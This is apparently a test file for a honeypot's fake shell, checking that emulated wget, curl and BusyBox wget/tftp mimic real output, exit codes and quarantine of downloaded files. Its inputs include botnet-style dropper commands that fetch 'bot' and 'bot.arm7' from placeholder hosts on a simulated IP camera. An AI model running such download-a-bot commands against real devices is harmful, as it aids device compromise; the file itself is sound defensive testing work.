import { describe, expect, it } from 'vitest';
import type { FetchRequest, FetchResult } from '../host.js';
import { testShell } from './testing.js';

const PAYLOAD = Buffer.from('#!/bin/sh\necho pwn\n');

/** A host whose answer depends on the URL's host name. */
async function fakeFetch(request: FetchRequest): Promise<FetchResult> {
  const host = new URL(request.url).hostname;
  if (host.startsWith('ok')) return { ok: true, status: 200, body: PAYLOAD, contentType: 'text/plain' };
  if (host.startsWith('missing')) return { ok: false, error: 'not_found' };
  if (host.startsWith('refused')) return { ok: false, error: 'refused' };
  if (host.startsWith('slow')) return { ok: false, error: 'timeout' };
  return { ok: false, error: 'unresolved' };
}

describe('wget (GNU)', () => {
  it('saves the body into the session filesystem, which reports it for quarantine', async () => {
    const sh = testShell({ distro: 'ubuntu22', fetch: fakeFetch });
    const r = await sh.run('wget http://ok.example/a.sh');
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(
      /^--2026-01-10 12:00:00-- {2}http:\/\/ok\.example\/a\.sh\nResolving ok\.example \(ok\.example\)\.\.\. [\d.]+\nConnecting to ok\.example \(ok\.example\)\|[\d.]+\|:80\.\.\. connected\.\nHTTP request sent, awaiting response\.\.\. 200 OK\nLength: 19 \[text\/plain\]\nSaving to: 'a\.sh'\n\n/,
    );
    expect(r.stderr).toMatch(/\n2026-01-10 12:00:00 \([\d.]+ [KM]?B\/s\) - 'a\.sh' saved \[19\/19\]\n\n$/);
    expect(sh.fetches).toEqual([{ url: 'http://ok.example/a.sh', tool: 'wget' }]);
    expect(sh.fs.readFile('/root/a.sh')).toEqual(PAYLOAD);
    expect(sh.written).toEqual([{ path: '/root/a.sh', content: PAYLOAD }]);
  });

  it('fails as wget does, with its exit codes', async () => {
    const sh = testShell({ distro: 'ubuntu22', fetch: fakeFetch });
    expect(await sh.run('wget http://nowhere.example/x')).toMatchObject({
      stderr:
        '--2026-01-10 12:00:00--  http://nowhere.example/x\nResolving nowhere.example (nowhere.example)... failed: Temporary failure in name resolution.\nwget: unable to resolve host address ‘nowhere.example’\n'.replace(
          /‘|’/g,
          "'",
        ),
      status: 4,
    });
    const refused = await sh.run('wget http://refused.example/x');
    expect(refused.status).toBe(4);
    expect(refused.stderr).toMatch(/:80\.\.\. failed: Connection refused\.\n$/);
    const missing = await sh.run('wget http://missing.example/x');
    expect(missing.status).toBe(8);
    expect(missing.stderr).toMatch(
      /HTTP request sent, awaiting response\.\.\. 404 Not Found\n2026-01-10 12:00:00 ERROR 404: Not Found\.\n\n$/,
    );
    expect((await sh.run('wget -T 5 http://slow.example/x')).status).toBe(4);
    expect(sh.written).toEqual([]);
  });

  it('opens -O before fetching and stops on an unwritable file', async () => {
    const sh = testShell({ distro: 'ubuntu22', user: 'ubuntu', fetch: fakeFetch });
    expect(await sh.run('wget -O /etc/z http://ok.example/y')).toEqual({
      stdout: '',
      stderr: '/etc/z: Permission denied\n',
      status: 1,
    });
    expect(sh.fetches).toEqual([]);
    expect((await sh.run('wget -qO- http://ok.example/y')).stdout).toBe(PAYLOAD.toString());
  });

  it('prints its version banner', async () => {
    const sh = testShell({ distro: 'debian12' });
    expect((await sh.run('wget --version')).stdout).toMatch(/^GNU Wget 1\.21\.3 built on linux-gnu\.\n/);
  });
});

describe('curl', () => {
  it('writes to stdout or to -o/-O files', async () => {
    const sh = testShell({ distro: 'rocky9', fetch: fakeFetch });
    expect(await sh.run('curl -s http://ok.example/c')).toEqual({
      stdout: PAYLOAD.toString(),
      stderr: '',
      status: 0,
    });
    expect((await sh.run('curl -sO http://ok.example/dir/bot')).status).toBe(0);
    expect(sh.fs.readFile('/root/bot')).toEqual(PAYLOAD);
    const meter = await sh.run('curl -o /tmp/b http://ok.example/b');
    expect(meter.stderr).toMatch(
      /^ {2}% Total {4}% Received % Xferd {2}Average Speed {3}Time {4}Time {5}Time {2}Current\n {33}Dload {2}Upload {3}Total {3}Spent {4}Left {2}Speed\n/,
    );
    expect(sh.written.map((w) => w.path)).toEqual(['/root/bot', '/tmp/b']);
  });

  it('fails with curl exit codes and messages (7.76 on Rocky 9, 7.81 on Ubuntu 22.04)', async () => {
    const rocky = testShell({ distro: 'rocky9', fetch: fakeFetch });
    expect(await rocky.run('curl http://nowhere.example/')).toMatchObject({
      stderr: 'curl: (6) Could not resolve host: nowhere.example\n',
      status: 6,
    });
    expect(await rocky.run('curl http://refused.example/x')).toMatchObject({
      stderr: 'curl: (7) Failed to connect to refused.example port 80: Connection refused\n',
      status: 7,
    });
    expect(await rocky.run('curl -fsSL http://missing.example/x')).toMatchObject({
      stderr: 'curl: (22) The requested URL returned error: 404 Not Found\n',
      status: 22,
    });
    expect(await rocky.run('curl -m 3 http://slow.example')).toMatchObject({
      stderr: 'curl: (28) Connection timed out after 3001 milliseconds\n',
      status: 28,
    });
    const ubuntu = testShell({ distro: 'ubuntu22', fetch: fakeFetch });
    const refused = await ubuntu.run('curl http://refused.example/x');
    expect(refused.stderr).toMatch(
      /^curl: \(7\) Failed to connect to refused\.example port 80 after \d+ ms: Connection refused\n$/,
    );
    expect((await ubuntu.run('curl -sf http://missing.example/x')).status).toBe(22);
    expect((await ubuntu.run('curl -s http://missing.example/x')).stdout).toContain('404 Not Found');
  });

  it('is absent from a minimal Debian 12', async () => {
    const sh = testShell({ distro: 'debian12', fetch: fakeFetch });
    expect(await sh.run('curl http://ok.example/')).toMatchObject({ status: 127 });
    expect(sh.fetches).toEqual([]);
  });
});

describe('BusyBox downloaders', () => {
  it('wget prints the BusyBox progress and errors', async () => {
    const sh = testShell({ distro: 'busybox', archetype: 'ip-camera', fetch: fakeFetch });
    const r = await sh.run('wget http://ok.example/bot.arm7');
    expect(r.status).toBe(0);
    expect(r.stderr).toMatch(
      /^Connecting to ok\.example \([\d.]+:80\)\nsaving to 'bot\.arm7'\nbot\.arm7 {13}100% \|\*{32}\| {5}19 {2}0:00:00 ETA\n'bot\.arm7' saved\n$/,
    );
    expect(await sh.run('wget http://nowhere.example/x')).toMatchObject({
      stderr: "wget: bad address 'nowhere.example'\n",
      status: 1,
    });
    expect(await sh.run('wget -q http://missing.example/a')).toMatchObject({
      stderr: 'wget: server returned error: HTTP/1.1 404 Not Found\n',
      status: 1,
    });
  });

  it('tftp fetches through the host, and a literal address without a route times out', async () => {
    const sh = testShell({ distro: 'busybox', archetype: 'ip-camera', fetch: fakeFetch });
    expect(await sh.run('tftp -g -r bot ok.host')).toEqual({ stdout: '', stderr: '', status: 0 });
    expect(sh.fetches.at(-1)).toEqual({ url: 'tftp://ok.host:69/bot', tool: 'tftp' });
    expect(sh.written.at(-1)).toEqual({ path: '/root/bot', content: PAYLOAD });
    expect(await sh.run('tftp -g -r bot 198.51.100.7')).toMatchObject({
      stderr: 'tftp: timeout\n',
      status: 1,
    });
    const debian = testShell({ distro: 'debian12', fetch: fakeFetch });
    expect((await debian.run('tftp -g -r bot 198.51.100.7')).status).toBe(127);
  });
});
